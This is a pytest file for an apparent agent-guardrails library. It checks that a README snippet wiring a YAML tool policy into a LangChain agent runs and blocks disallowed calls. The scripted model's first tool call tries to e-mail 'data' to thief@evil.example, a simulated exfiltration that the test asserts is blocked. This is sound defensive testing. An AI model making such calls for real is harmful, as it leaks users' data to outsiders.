"""The README's 'Add it to a LangChain agent' snippet runs as written, and enforces.

The README's fenced blocks under ``## Add it to a LangChain agent`` are executed: the ``yaml`` block
is written to ``perimeter.yaml`` and the ``python`` block runs with ``model`` and ``tools`` defined
(a scripted model; real tools that record calls). ``SECTION`` below is the canonical text of that
section (the README copy must execute the same way).
"""

from __future__ import annotations

import os
import re
from pathlib import Path
from typing import Any

import pytest
from langchain_core.messages import AIMessage, ToolMessage
from langchain_core.tools import tool

from guardrails.demo.model import ScriptedChatModel, replay

ROOT = Path(__file__).resolve().parents[2]
HEADING = "## Add it to a LangChain agent"

SECTION = '''## Add it to a LangChain agent

Write what the agent may do in `perimeter.yaml`:

```yaml
version: 1
agents:
  support:
    tools:
      get_order: {args: {order_id: {pattern: "[A-Z]{2}[0-9]{8}"}}}
      send_email: {args: {to: {domains: [example.com]}, body: {max_length: 5000}}}
```

and add one line to your `create_agent` call:

```python
from langchain.agents import create_agent
from guardrails import Guard
from guardrails.integrations.langchain import GuardrailsMiddleware

agent = create_agent(
    model, tools,
    middleware=[GuardrailsMiddleware(Guard.from_yaml("perimeter.yaml"), agent="support")],
)
```

Every planned tool call is checked before it runs; a denied one does not run and the model gets
an error `ToolMessage` saying why (pass `on_block="raise"` to stop the run with `Blocked` instead).
User input, tool results and messages from other agents are screened before the model reads them,
and personal data is redacted from tool results and the final answer. For loops without middleware
(`AgentExecutor`, custom graphs) pass
`config={"callbacks": [GuardrailsCallbackHandler(guard, agent="support")]}`: it stops a run with
`Blocked` but cannot redact.
'''


def section_blocks(text: str) -> dict[str, str]:
    start = text.find(HEADING)
    if start < 0:
        return {}
    end = text.find("\n## ", start + len(HEADING))
    body = text[start:end if end >= 0 else None]
    return {lang: code for lang, code in re.findall(r"```(\w+)\n(.*?)```", body, re.S)}


def run_snippet(blocks: dict[str, str], tmp_path: Path) -> None:
    assert set(blocks) >= {"yaml", "python"}
    ran: list[str] = []

    @tool
    def get_order(order_id: str) -> str:
        """Look up an order."""
        ran.append("get_order")
        return "shipped"

    @tool
    def send_email(to: str, body: str) -> str:
        """Send an e-mail."""
        ran.append("send_email")
        return "sent"

    model = ScriptedChatModel(brain=replay([
        AIMessage(content="", tool_calls=[{"name": "send_email", "id": "1", "type": "tool_call",
                                           "args": {"to": "thief@evil.example", "body": "data"}}]),
        AIMessage(content="", tool_calls=[{"name": "get_order", "id": "2", "type": "tool_call",
                                           "args": {"order_id": "AB12345678"}}]),
        AIMessage("Your order has shipped."),
    ]))
    (tmp_path / "perimeter.yaml").write_text(blocks["yaml"])
    ns: dict[str, Any] = {"model": model, "tools": [get_order, send_email]}
    cwd = os.getcwd()
    os.chdir(tmp_path)
    try:
        exec(compile(blocks["python"], "README.md", "exec"), ns)
    finally:
        os.chdir(cwd)
    out = ns["agent"].invoke({"messages": [{"role": "user", "content": "Where is order AB12345678?"}]})
    assert ran == ["get_order"]  # the exfiltrating e-mail never ran
    statuses = [m.status for m in out["messages"] if isinstance(m, ToolMessage)]
    assert statuses == ["error", "success"]
    assert out["messages"][-1].content == "Your order has shipped."


def test_canonical_snippet_runs_and_enforces(tmp_path: Path) -> None:
    run_snippet(section_blocks(SECTION), tmp_path)


def test_readme_snippet_runs_and_enforces(tmp_path: Path) -> None:
    readme = ROOT / "README.md"
    if not readme.exists() or HEADING not in readme.read_text(encoding="utf-8"):
        pytest.skip(f"README.md has no '{HEADING}' section yet")
    run_snippet(section_blocks(readme.read_text(encoding="utf-8")), tmp_path)
